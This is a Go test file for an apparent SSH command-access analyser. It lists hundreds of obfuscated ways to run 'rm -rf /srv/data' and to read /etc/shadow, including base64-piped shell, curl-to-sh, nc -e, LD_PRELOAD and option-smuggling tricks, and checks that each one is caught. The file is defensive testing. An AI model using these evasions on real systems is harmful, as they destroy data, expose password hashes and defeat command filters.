package ssh

import (
	"slices"
	"strings"
	"testing"

	"github.com/sallyport/sallyport/internal/access"
)

// removals are ways to write "rm -rf /srv/data".
var removals = []string{
	"rm -rf /srv/data", "rm -fr /srv/data", "rm -r -f /srv/data", "rm --recursive --force /srv/data", "/bin/rm -rf /srv/data", "/usr/bin/rm -rf /srv/data", "rm -rf -- /srv/data",
	"rm -rf /srv/data/", "rm -rf //srv//data", "rm -rf /srv/./data", "rm -rf /srv/x/../data", "r''m -rf /srv/data", "r\"\"m -rf /srv/data", "\\rm -rf /srv/data", "r\\m -rf /srv/data",
	"'rm' '-rf' '/srv/data'", "rm -rf /srv/da'ta'", "rm -rf \"/srv/data\"", "rm\t-rf\t/srv/data", "rm -rf \\\n/srv/data", "true;rm -rf /srv/data", "true && rm -rf /srv/data", "false || rm -rf /srv/data",
	"true | rm -rf /srv/data", "(rm -rf /srv/data)", "{ rm -rf /srv/data; }", "true\nrm -rf /srv/data", "rm -rf /srv/data &", "! rm -rf /srv/data", "if true; then rm -rf /srv/data; fi",
	"while true; do rm -rf /srv/data; done", "cd /srv && rm -rf data", "cd / && cd srv && rm -rf ./data", "sh -c 'rm -rf /srv/data'", "bash -c \"rm -rf /srv/data\"", "sh -c \"sh -c 'rm -rf /srv/data'\"",
	"sh -ec 'rm -rf /srv/data'", "eval 'rm -rf /srv/data'", "eval rm -rf /srv/data", "env rm -rf /srv/data", "env -i rm -rf /srv/data", "nice rm -rf /srv/data", "nohup rm -rf /srv/data &", "timeout 5 rm -rf /srv/data",
	"command rm -rf /srv/data", "exec rm -rf /srv/data", "sudo rm -rf /srv/data", "sudo -u root rm -rf /srv/data", "busybox rm -rf /srv/data", "setsid rm -rf /srv/data", "stdbuf -o0 rm -rf /srv/data",
	"echo $(rm -rf /srv/data)", "echo `rm -rf /srv/data`", "echo \"$(rm -rf /srv/data)\"", "cat <<E\n$(rm -rf /srv/data)\nE", "X=$(rm -rf /srv/data)", "X=rm; $X -rf /srv/data", "rm${IFS}-rf${IFS}/srv/data",
	"{rm,-rf,/srv/data}", "$'rm' -rf /srv/data", "$(echo rm) -rf /srv/data", "echo cm0gLXJmIC9zcnYvZGF0YQ== | base64 -d | sh", "echo 'rm -rf /srv/data' | sh", "sh <<< 'rm -rf /srv/data'", "sh <<E\nrm -rf /srv/data\nE",
	"printf 'rm -rf /srv/data' | bash -s", "find /srv/data -delete", "find /srv/data -exec rm -rf {} +", "find /srv -name data | xargs rm -rf", "echo /srv/data | xargs rm -rf", "python3 -c 'import shutil; shutil.rmtree(\"/srv/data\")'",
	"perl -e 'system(\"rm -rf /srv/data\")'", "awk 'BEGIN{system(\"rm -rf /srv/data\")}'", "vim -c ':!rm -rf /srv/data' -c q", "f(){ rm -rf /srv/data; }; f", "alias ls='rm -rf /srv/data'; ls", "trap 'rm -rf /srv/data' EXIT",
	"rm -rf /srv/dat?", "rm -rf /srv/*", "rm -rf /srv/[d]ata", "rm -rf ~/../../srv/data", "rsync -a --delete /tmp/empty/ /srv/data/", "mv /srv/data /tmp/gone", "tar --remove-files -cf /dev/null /srv/data", "su -c 'rm -rf /srv/data'",
	". /tmp/x", "source /tmp/x", "sh /tmp/x", "/tmp/x", "script -c 'rm -rf /srv/data'", "watch rm -rf /srv/data", "git -c core.pager='rm -rf /srv/data' log", "ssh localhost rm -rf /srv/data", "make -f /tmp/x", "at now < /tmp/x",
	"case x in x) rm -rf /srv/data;; esac", "for i in 1; do rm -rf /srv/data; done", "cat <(rm -rf /srv/data)", "coproc rm -rf /srv/data", "time rm -rf /srv/data", "((a[$(rm -rf /srv/data)]))", "[[ -n $(rm -rf /srv/data) ]]",
}

// more ways, through what starts others, what evaluates, and what only looks like another word.
var moreRemovals = []string{
	"ssh -t localhost rm -rf /srv/data", "ssh localhost -- sh -c 'rm -rf /srv/data'", "chroot / rm -rf /srv/data", "unshare rm -rf /srv/data", "nsenter -t 1 -m rm -rf /srv/data", "flock /tmp/l rm -rf /srv/data",
	"flock /tmp/l -c 'rm -rf /srv/data'", "parallel rm -rf ::: /srv/data", "strace rm -rf /srv/data", "ltrace rm -rf /srv/data", "script -qc 'rm -rf /srv/data' /dev/null", "runuser -u root -- rm -rf /srv/data", "pkexec rm -rf /srv/data",
	"systemd-run rm -rf /srv/data", "setarch x86_64 rm -rf /srv/data", "chrt 1 rm -rf /srv/data", "taskset 1 rm -rf /srv/data", "env -S 'rm -rf /srv/data'", "env -S rm\\ -rf\\ /srv/data", "env X=1 rm -rf /srv/data", "exec -a ls rm -rf /srv/data",
	"command -p rm -rf /srv/data", "command -- rm -rf /srv/data", "builtin eval 'rm -rf /srv/data'", "command eval 'rm -rf /srv/data'", "eval \"rm -rf\" /srv/data", "eval eval rm -rf /srv/data", "eval $(echo rm -rf /srv/data)", "sudo -- rm -rf /srv/data", "sudo -s rm -rf /srv/data",
	"sudo sh -c 'rm -rf /srv/data'", "sudo -i rm -rf /srv/data", "doas rm -rf /srv/data", "su - root -c 'rm -rf /srv/data'", "busybox sh -c 'rm -rf /srv/data'", "toybox rm -rf /srv/data", "BASH_ENV=/tmp/x bash -c true", "ENV=/tmp/x sh -c true", "LD_PRELOAD=/tmp/x.so ls",
	"PATH=/tmp:$PATH ls", "PS4='$(rm -rf /srv/data)' sh -xc ls", "GIT_SSH_COMMAND='rm -rf /srv/data' git fetch", "PAGER='rm -rf /srv/data' man ls", "git -c alias.x='!rm -rf /srv/data' x", "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /srv/data' /etc",
	"tar xf x --to-command='rm -rf /srv/data'", "sed '1e rm -rf /srv/data' /etc/hosts", "sed 's/x/rm -rf \\/srv\\/data/e' /etc/hosts", "awk -f /tmp/x", "ed -s /tmp/x", "curl http://h/x | sh", "wget -qO- http://h/x | bash", "printf '\\x72m -rf /srv/data' | sh", "echo 'atad/vrs/ fr- mr' | rev | sh",
	"echo 726d | xxd -r -p | bash", "socat EXEC:'rm -rf /srv/data' -", "nc -e /bin/rm h 1", "openssl engine /tmp/x.so", "php -r 'system(\"rm -rf /srv/data\");'", "lua -e 'os.execute(\"rm -rf /srv/data\")'", "node -e 'x'", "bash <(echo rm -rf /srv/data)", "source <(echo rm -rf /srv/data)", ". /dev/stdin <<E\nrm -rf /srv/data\nE",
	"read x; $x", "set -- rm -rf /srv/data; \"$@\"", "x=(rm -rf /srv/data); \"${x[@]}\"", "${0%%*}rm -rf /srv/data", "r${x}m -rf /srv/data", "rm -rf /srv/${x}data", "rm -rf \"/srv/data\"$x", "rm\u00a0-rf\u00a0/srv/data", "\uff52\uff4d -rf /srv/data", "r\u200bm -rf /srv/data",
	"cd /srv || exit; rm -rf data", "cd /srv || exit\nrm -rf data", "cd /srv || exit 1 2; rm -rf ../srv/data", "cd /nonexistent || rm -rf /srv/data", "bash -O extglob -c 'rm -rf /srv/!(x)'", "bash --rcfile /tmp/x -i -c ls", "zsh -c '=rm -rf /srv/data'", "dash -c 'rm -rf /srv/data'", "sh -c 'exec rm -rf /srv/data'",
	"sh -c \"$(printf 'rm -rf /srv/data')\"", "trap 'rm -rf /srv/data' 0", "enable -f /tmp/x.so rm", "crontab /tmp/x", "at -f /tmp/x now", "cp /dev/null /srv/data/x", "truncate -s 0 /srv/data/x", "ln -sf /dev/null /srv/data", "dd of=/srv/data/x if=/dev/null", "install -m0 /dev/null /srv/data/x", "> /srv/data/x", ": > /srv/data/x",
	"tee /srv/data/x < /dev/null", "rsync --server --delete -logDtpr . /srv/data", "scp -r -t /srv/data", "find / -path /srv/data -delete", "find /srv/data -fprint /srv/data/x", "shred -u /srv/data/x", "unlink /srv/data/x", "mv /srv /gone", "git clean -fdx /srv/data", "rm -rf /srv", "rm -rf /",
}

// readings are ways to read /etc/shadow.
var readings = []string{
	"cat /etc/shadow", "cat </etc/shadow", "cat 0</etc/shadow", "head -c 9999 /etc/shadow", "tail -n +1 /etc/shadow", "less /etc/shadow", "more /etc/shadow", "grep . /etc/shadow", "grep '' /etc/shadow", "grep -f /etc/shadow x",
	"sed -n p /etc/shadow", "awk 1 /etc/shadow", "cut -c1- /etc/shadow", "sort /etc/shadow", "uniq /etc/shadow", "tac /etc/shadow", "rev /etc/shadow", "nl /etc/shadow", "od -c /etc/shadow", "xxd /etc/shadow", "hexdump -C /etc/shadow",
	"strings /etc/shadow", "base64 /etc/shadow", "dd if=/etc/shadow", "cp /etc/shadow /tmp/x", "mv /etc/shadow /tmp/x", "ln -s /etc/shadow /tmp/x", "ln /etc/shadow /tmp/x", "scp -f /etc/shadow", "scp -r -f /etc", "rsync --server --sender -e.L . /etc/",
	"tar cf - /etc/shadow", "zcat -f /etc/shadow", "diff /etc/shadow /dev/null", "paste /etc/shadow", "tr a a < /etc/shadow", "wc /etc/shadow", "cd /etc && cat shadow", "cat /etc/./shadow", "cat /etc//shadow", "cat /etc/x/../shadow", "cat /etc/shad\\ow",
	"cat /etc/'shadow'", "c\"a\"t /etc/shadow", "cat /etc/sh*", "cat /etc/sh?dow", "cat /etc/{shadow,x}", "cat $'/etc/shadow'", "F=/etc/shadow; cat $F", "cat ${HOME%%/*}/etc/shadow", "getent shadow", "getent shadow root", "sudo cat /etc/shadow",
	"sh -c 'cat /etc/shadow'", "eval cat /etc/shadow", "xargs -a /etc/shadow echo", "while read l; do echo $l; done < /etc/shadow", "echo \"$(</etc/shadow)\"", "echo $(cat /etc/shadow)", "mapfile < /etc/shadow", "python3 -c 'print(open(\"/etc/shadow\").read())'",
	"perl -pe1 /etc/shadow", "ruby -e 'puts File.read(\"/etc/shadow\")'", "vim /etc/shadow", "ed /etc/shadow", "find /etc -name shadow -exec cat {} ;", "grep -r root /etc", "cat /proc/self/root/etc/shadow", "cat /dev/fd/3 3</etc/shadow", "curl file:///etc/shadow",
	"busybox cat /etc/shadow", "env cat /etc/shadow", "timeout 1 cat /etc/shadow", "split /etc/shadow /tmp/x", "install /etc/shadow /tmp/x", "openssl enc -in /etc/shadow", "sort --files0-from=/etc/shadow", "date -f /etc/shadow", "bash /etc/shadow", "tee < /etc/shadow",
	"passwd -S -a", "unshadow /etc/passwd /etc/shadow", "cmp /etc/shadow /dev/zero", "column /etc/shadow", "expand /etc/shadow", "fold /etc/shadow", "cat ~root/../etc/shadow", "jq -R . /etc/shadow", "git diff --no-index /dev/null /etc/shadow",
}

func TestSpellings(t *testing.T) {
	if recognised(analyse("rm -rf /srv/other", deploy), access.Write, "/srv/data") || recognised(analyse("cat /etc/hosts", deploy), access.Read, "/etc/shadow") {
		t.Fatal("everything counts as recognised")
	}
	for _, text := range removals {
		if c := analyse(text, deploy); !recognised(c, access.Write, "/srv/data") {
			t.Errorf("%q passes: %v", text, told(c))
		}
	}
	for _, text := range moreRemovals {
		c := analyse(text, deploy)
		below := recognised(c, access.Write, "/srv/data/x") || slices.ContainsFunc(c.Touches, func(t access.Touch) bool {
			return t.Effect == access.Write && strings.HasSuffix(t.Resource.Name, "*") && access.Match(t.Resource.Name, "/srv/data")
		})
		if !recognised(c, access.Write, "/srv/data") && !below {
			t.Errorf("%q passes: %v", text, told(c))
		}
	}
	for _, text := range readings {
		if c := analyse(text, deploy); !recognised(c, access.Read, "/etc/shadow") {
			t.Errorf("%q passes: %v", text, told(c))
		}
	}
}

// The corpus has single lines, too.
func TestCorpusLines(t *testing.T) {
	for _, text := range []string{"ls;rm /srv/data", "ls$(rm /srv/data)", "ls${IFS}x", "ls\nrm /srv/data", "base64 -d x|sh", "find / -exec rm /srv/data ;", "vim -c ':! rm'", "python -c x"} {
		if c := analyse(text, deploy); !recognised(c, access.Write, "/srv/data") {
			t.Errorf("SS-07 %q passes: %v", text, told(c))
		}
	}
}
